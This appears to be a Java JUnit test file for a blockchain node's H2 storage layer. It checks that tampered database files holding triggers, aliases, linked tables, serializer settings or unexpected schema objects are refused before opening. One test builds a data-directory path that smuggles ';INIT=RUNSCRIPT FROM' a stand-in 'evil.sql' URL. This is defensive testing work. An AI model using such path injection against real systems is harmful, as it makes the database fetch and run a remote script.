package global.cas.store.h2;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import global.cas.h2.H2Files;
import global.cas.h2.UntrustedDatabaseException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.concurrent.atomic.AtomicInteger;
import org.h2.api.JavaObjectSerializer;
import org.h2.api.Trigger;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** DESIGN.md, Storage: "Treat an H2 file from outside as hostile: reject linked tables, triggers and aliases." */
class HostileDatabaseTest {
    @TempDir
    Path dir;

    /** A trigger that counts how often H2 instantiated it: it must never happen while refusing. */
    public static final class Trap implements Trigger {
        static final AtomicInteger LOADED = new AtomicInteger();

        public Trap() {
            LOADED.incrementAndGet();
        }

        @Override
        public void fire(Connection conn, Object[] oldRow, Object[] newRow) {}
    }

    /** A Java object serializer that counts how often H2 instantiated it. */
    public static final class TrapSerializer implements JavaObjectSerializer {
        static final AtomicInteger LOADED = new AtomicInteger();

        public TrapSerializer() {
            LOADED.incrementAndGet();
        }

        @Override
        public byte[] serialize(Object obj) {
            return new byte[0];
        }

        @Override
        public Object deserialize(byte[] bytes) {
            return bytes;
        }
    }

    /** A static method for a function alias to point at. */
    public static int answer() {
        return 42;
    }

    @BeforeEach
    void createChainDatabase() {
        H2ChainStore.open(dir).close();
    }

    @Test
    @DisplayName("A file with a trigger is refused before H2 opens it, so the trigger's class is never loaded")
    void triggerRefusedBeforeLoading() throws SQLException {
        tamper("CREATE TRIGGER T_TRAP BEFORE INSERT ON blocks FOR EACH ROW CALL '" + Trap.class.getName() + "'");
        Trap.LOADED.set(0);

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("a trigger")
                .hasMessageContaining("T_TRAP")
                .hasMessageContaining("refused before opening");
        assertThat(Trap.LOADED.get()).isZero();
    }

    @Test
    @DisplayName("A file with a function alias is refused")
    void aliasRefused() throws SQLException {
        tamper("CREATE ALIAS ANSWER FOR '" + HostileDatabaseTest.class.getName() + ".answer'");

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("a function alias")
                .hasMessageContaining("ANSWER");
    }

    @Test
    @DisplayName("A file with a linked table is refused before H2 would connect to its URL")
    void linkedTableRefused() throws SQLException {
        tamper("CREATE FORCE LINKED TABLE REMOTE('org.h2.Driver', 'jdbc:h2:mem:elsewhere', '', '', 'T')");

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("not a plain table")
                .hasMessageContaining("LINKED TABLE");
    }

    @Test
    @DisplayName(
            "A file with a setting this node never makes (a Java object serializer) is refused, and the serializer is never loaded")
    void unknownSettingRefused() throws Exception {
        Files.delete(dir.resolve("chain.mv.db"));
        tamper("SET JAVA_OBJECT_SERIALIZER '" + TrapSerializer.class.getName() + "'");
        TrapSerializer.LOADED.set(0);

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("the setting SET JAVA_OBJECT_SERIALIZER");
        assertThat(TrapSerializer.LOADED.get()).isZero();
    }

    @Test
    @DisplayName("A file with a table the migrations do not create is refused")
    void unknownTableRefused() throws SQLException {
        tamper("CREATE TABLE loot (x INT)");

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("unknown table PUBLIC.LOOT");
    }

    @Test
    @DisplayName("A file whose column got a default the migrations never set is refused")
    void changedDefaultRefused() throws SQLException {
        tamper("ALTER TABLE spends ALTER COLUMN output_id SET DEFAULT 7");

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("column SPENDS | OUTPUT_ID");
    }

    @Test
    @DisplayName("A file with an extra check constraint is refused")
    void extraCheckRefused() throws SQLException {
        tamper("ALTER TABLE spends ADD CONSTRAINT odd CHECK (output_id > 1)");

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOf(UntrustedDatabaseException.class)
                .hasMessageContaining("check constraint SPENDS");
    }

    @Test
    @DisplayName("A file that is not an H2 database is refused as damaged chain data")
    void garbageRefused() throws Exception {
        Files.write(dir.resolve("chain.mv.db"), new byte[8192]);

        assertThatThrownBy(() -> H2ChainStore.open(dir))
                .isInstanceOfSatisfying(global.cas.store.ChainDataException.class, e -> {
                    assertThat(e.reason()).isEqualTo(global.cas.rejection.Reason.CHAIN_DATA_DAMAGED);
                    assertThat(e.detail()).contains("chain.mv.db");
                });
    }

    @Test
    @DisplayName("A data directory whose path carries H2 settings (;INIT=...) is refused before any connection")
    void settingsInPathRefused() {
        Path evil = dir.resolve("x;INIT=RUNSCRIPT FROM 'http://example.com/evil.sql'");

        assertThatThrownBy(() -> H2ChainStore.open(evil))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("';'");
    }

    @Test
    @DisplayName(
            "The INFORMATION_SCHEMA check alone refuses a trigger, an alias, a linked table, a view and a synonym in an open database")
    void schemaGuardRefusesTriggerAndAlias() throws SQLException {
        JdbcDataSource ds = new JdbcDataSource();
        ds.setURL("jdbc:h2:mem:hostile-guard");
        ds.setUser(H2Files.USER);
        try (Connection c = ds.getConnection()) {
            ChainMigrations.migrate(ds, "test");
            SchemaGuard.Schema reference = SchemaGuard.reference();
            SchemaGuard.check(c, reference, true, "test");
            try (Statement s = c.createStatement()) {
                s.execute("CREATE TRIGGER T_TRAP BEFORE INSERT ON blocks FOR EACH ROW CALL '" + Trap.class.getName()
                        + "'");
                s.execute("CREATE ALIAS ANSWER FOR '" + HostileDatabaseTest.class.getName() + ".answer'");
                s.execute("CREATE FORCE LINKED TABLE REMOTE('org.h2.Driver', 'jdbc:h2:mem:elsewhere', '', '', 'T')");
                s.execute("CREATE VIEW peek AS SELECT * FROM spends");
                s.execute("CREATE SYNONYM tips FOR chain_tip");
            }
            assertThatThrownBy(() -> SchemaGuard.check(c, reference, true, "test"))
                    .isInstanceOf(UntrustedDatabaseException.class)
                    .hasMessageContaining("trigger PUBLIC.T_TRAP")
                    .hasMessageContaining("function alias or aggregate PUBLIC.ANSWER")
                    .hasMessageContaining("linked table PUBLIC.REMOTE")
                    .hasMessageContaining("view PUBLIC.PEEK")
                    .hasMessageContaining("synonym PUBLIC.TIPS");
        }
    }

    @Test
    @DisplayName("An untouched file opens again: the guard accepts what the node itself wrote")
    void ownFileAccepted() {
        try (H2ChainStore store = H2ChainStore.open(dir)) {
            assertThat(store.tip()).isEmpty();
        }
        try (H2ChainStore store = H2ChainStore.open(dir)) {
            assertThat(store.tip()).isEmpty();
        }
    }

    /** Changes the closed chain database with a plain connection, as someone with the file could. */
    private void tamper(String sql) throws SQLException {
        try (Connection c = DriverManager.getConnection(
                        "jdbc:h2:file:" + dir.toAbsolutePath().resolve("chain"), H2Files.USER, "");
                Statement s = c.createStatement()) {
            s.execute(sql);
        }
    }
}
